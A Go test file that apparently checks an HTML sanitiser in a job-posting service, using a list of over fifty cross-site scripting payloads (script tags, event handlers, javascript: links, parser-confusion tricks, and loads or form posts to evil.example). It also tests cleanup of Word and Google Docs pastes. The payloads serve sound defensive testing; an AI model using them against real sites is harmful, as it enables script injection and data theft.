package serve

import (
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/microcosm-cc/bluemonday"
	"golang.org/x/net/html"
)

// hostile are bodies that would run a script, load something, or leave the page, if they were handed on.
var hostile = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script/x>alert(1)</script/x>`,
	`<img src=x onerror=alert(1)>`, `<img src=//evil.example/pixel.gif>`, `<img """><script>alert(1)</script>">`, `<image href=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><animate onbegin=alert(1) attributeName=x>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><use href="data:image/svg+xml,<svg/onload=alert(1)>">`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<math href="javascript:alert(1)">x</math>`, `<a href="javascript:alert(1)">apply</a>`, `<a href="JaVaScRiPt:alert(1)">apply</a>`, `<a href="java&#10;script:alert(1)">apply</a>`,
	`<a href=" &#1; javascript:alert(1)">apply</a>`, `<a href="javascript&colon;alert(1)">apply</a>`, `<a href="vbscript:msgbox(1)">apply</a>`, `<a href="data:text/html,<script>alert(1)</script>">apply</a>`,
	`<a href="https://jobs.example/&quot; onmouseover=alert(1) x=&quot;">apply</a>`, `<a href='https://jobs.example/"onclick=alert(1)'>apply</a>`, `<a onclick=alert(1)>apply</a>`, `<a id="m1-1" href="#f1-1">1</a>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="javascript:alert(1)">`, `<embed src=//evil.example/x.swf>`,
	`<form action="//evil.example"><input name=text><button>Check</button></form>`, `<input autofocus onfocus=alert(1)>`, `<button formaction="javascript:alert(1)">go</button>`, `<details open ontoggle=alert(1)>`,
	`<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import url(//evil.example/x.css);</style>`,
	`<div style="background:url(//evil.example/x)">x</div>`, `<p style="width:expression(alert(1))">x</p>`, `<video src=x onerror=alert(1)></video>`, `<audio src=//evil.example/x autoplay></audio>`,
	`<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<textarea></textarea><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`,
	`</title><script>alert(1)</script>`, `<!--><script>alert(1)</script>-->`, `<![CDATA[<script>alert(1)</script>]]>`, "<p>\u2028<script>\x00alert(1)</script>", `<xss onpointerenter=alert(1) contenteditable>x</xss>`,
	`{{.T "title"}}<script>{{template "page"}}</script>`, `<mark data-f="1-1" class="must" onclick=alert(1)>x</mark>`, `<body onload=alert(1)><p>x`, `<marquee onstart=alert(1)>x</marquee>`,
}

func TestNothingOfAPostingRuns(t *testing.T) {
	if len(hostile) < 50 {
		t.Fatalf("%d bodies", len(hostile))
	}
	clean := parse(t, post(t, shared(), "/check", "text", around("")).Body.String())
	want := counts(clean)
	for i, body := range hostile {
		for _, format := range []string{"", "html", pasted} {
			out := post(t, shared(), "/check", "text", around(body), "format", format, "title", body, "places", body)
			if out.Code != http.StatusOK {
				t.Fatalf("%d %q: status %d", i, body, out.Code)
			}
			p := parse(t, out.Body.String())
			got := counts(p)
			for _, name := range []string{"script", "link", "meta", "form", "input", "base", "style", "img", "image", "iframe", "object", "embed", "video", "audio", "math", "template", "noscript", "xss", "marquee"} {
				if got[name] != want[name] {
					t.Errorf("%d %q as %q: %d <%s>, want %d", i, body, format, got[name], name, want[name])
				}
			}
			inspect(t, fmt.Sprintf("%d %q as %q", i, body, format), p)
		}
	}
}

// around is a posting around a hostile body.
func around(body string) string {
	return "<h1>Line Cook</h1><p>Location: Denver, CO, US</p><p>You cook on the evening shift.</p><p>Before " + body + " after</p><p>Apply at jobs@harbour-lantern.co.uk.</p>"
}

func counts(p *seen) map[string]int {
	n := map[string]int{}
	for d := range p.root.Descendants() {
		if d.Type == html.ElementNode {
			n[d.Data]++
		}
	}
	return n
}

// inspect refuses attributes that run something, and addresses that are not the desk's own or a link's.
func inspect(t *testing.T, where string, p *seen) {
	t.Helper()
	for n := range p.root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		for _, a := range n.Attr {
			key, val := strings.ToLower(a.Key), strings.ToLower(strings.TrimSpace(a.Val))
			switch {
			case strings.HasPrefix(key, "on"), key == "style", key == "srcdoc", key == "srcset", key == "autofocus":
				t.Errorf("%s: <%s %s=%q>", where, n.Data, key, a.Val)
			case key == "src" && a.Val != "/assets/desk.js":
				t.Errorf("%s: <%s src=%q>", where, n.Data, a.Val)
			case key == "action" && val != "/check", key == "formaction" && val != "/report":
				t.Errorf("%s: <%s %s=%q>", where, n.Data, key, a.Val)
			case key == "href" && n.Data == "link" && !strings.HasPrefix(val, "/assets/"):
				t.Errorf("%s: <link href=%q>", where, a.Val)
			case key == "href" && n.Data == "a" && !harmlessLink(val):
				t.Errorf("%s: <a href=%q>", where, a.Val)
			}
		}
	}
}

func harmlessLink(href string) bool {
	for _, start := range []string{"https://", "http://", "mailto:", "tel:", "#", "/"} {
		if strings.HasPrefix(href, start) {
			return true
		}
	}
	return false
}

func TestFormattedTextKeepsItsStructureAlone(t *testing.T) {
	for _, c := range []struct{ name, pasted, want string }{
		{
			"Google Docs",
			`<meta charset='utf-8'><b style="font-weight:normal;" id="docs-internal-guid-1"><h1 dir="ltr" style="line-height:1"><span style="font-size:20pt;font-weight:400">Baker</span></h1><p><span style="font-weight:700;color:#000">Pay:</span><span style="font-weight:400"> $20</span></p></b>`,
			`<h1>Baker</h1><p><strong>Pay:</strong> $20</p>`,
		},
		{
			"Word",
			"<html xmlns:o=\"urn:schemas-microsoft-com:office:office\"><head><title>x</title><style>p.MsoNormal {margin:0}</style><!--[if gte mso 9]><xml>x</xml><![endif]--></head><body lang=EN-US><!--StartFragment--><p class=MsoNormal style='x'><b>Baker</b><o:p></o:p></p><ul><li class=MsoNormal>Bake</li></ul><!--EndFragment--></body></html>",
			`<p><strong>Baker</strong></p><ul><li>Bake</li></ul>`,
		},
		{
			"items of Word, whose bullets are typed for browsers that know no lists",
			wordParagraph("level1", "·", "Bake") + "\n" + wordParagraph("level2", "o", "Rye") + wordParagraph("level1", "·", "Sell") + "<p>Then:</p>" + wordParagraph("level1", "1.", "Apply") + wordParagraph("level1", "2.", "Begin"),
			"<ul><li>Bake<ul><li>Rye</li></ul></li><li>Sell</li></ul>\n<p>Then:</p><ol><li>Apply</li><li>Begin</li></ol>",
		},
		{
			"images, but those that lie on the author's machine",
			`<p>Bake<img src="file:///C:/clip1.png"></p><p><img src="file:///C:/clip2.png">&nbsp;</p><p><img width=9 src="https://bramblebakery.example/logo.png" alt="Logo"></p>`,
			`<p>Bake</p><p><img src="https://bramblebakery.example/logo.png" alt="Logo"></p>`,
		},
		{"a script", `<p onclick="x()">Bake<script>alert(1)</script> <a href="javascript:x()">here</a></p>`, `<p>Bake <a href="javascript:x()">here</a></p>`},
	} {
		if got := cleaned(c.pasted); got != c.want {
			t.Errorf("%s:\n%s, want\n%s", c.name, got, c.want)
		}
	}
}

// wordParagraph is an item of a list as Word copies it.
func wordParagraph(level, bullet, text string) string {
	return "<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 " + level + " lfo1'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>" +
		bullet + "<span style='font:7.0pt \"Times New Roman\"'>&nbsp;&nbsp;&nbsp; </span></span></span><![endif]><span lang=EN-US>" + text + "<o:p></o:p></span></p>"
}

// bluemonday, which is written by people who do nothing else, must find nothing to take away.
func TestASecondSanitiserTakesNothingAway(t *testing.T) {
	second := bluemonday.NewPolicy()
	second.AllowElements("p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "br", "strong", "em", "b", "i", "mark", "table", "tr", "th", "td")
	second.AllowAttrs("href").OnElements("a")
	second.AllowRelativeURLs(true) // the numbers of findings
	second.AllowURLSchemes("http", "https", "mailto", "tel")
	for i, body := range hostile {
		for name, tag := range map[string]tagger{"plain": plainTag, "stage": func(n *html.Node) (string, []html.Attribute) {
			name, attrs := stageTag(n)
			attrs = slices.DeleteFunc(attrs, func(a html.Attribute) bool { return a.Key != "href" }) // the others are ours
			if name == "a" && len(attrs) == 0 {
				name = "" // bluemonday takes links without an address away
			}
			return name, attrs
		}} {
			got := rewritten(around(body), tag)
			if again := second.Sanitize(got); html.UnescapeString(again) != html.UnescapeString(got) {
				t.Errorf("%d %q as %s:\n%s\n%s", i, body, name, got, again)
			}
		}
	}
}

func TestWhatIsNestedTooDeeplyIsNotShown(t *testing.T) {
	out := post(t, shared(), "/check", "text", strings.Repeat("<ul><li>", 5000)+"Line Cook in Denver, CO, US", "title", "Line Cook")
	if out.Code != http.StatusOK {
		t.Errorf("status %d", out.Code)
	}
	if got := cleaned(strings.Repeat("<ul><li>", 5000) + "x"); got != "" {
		t.Errorf("%d bytes are left", len(got))
	}
}
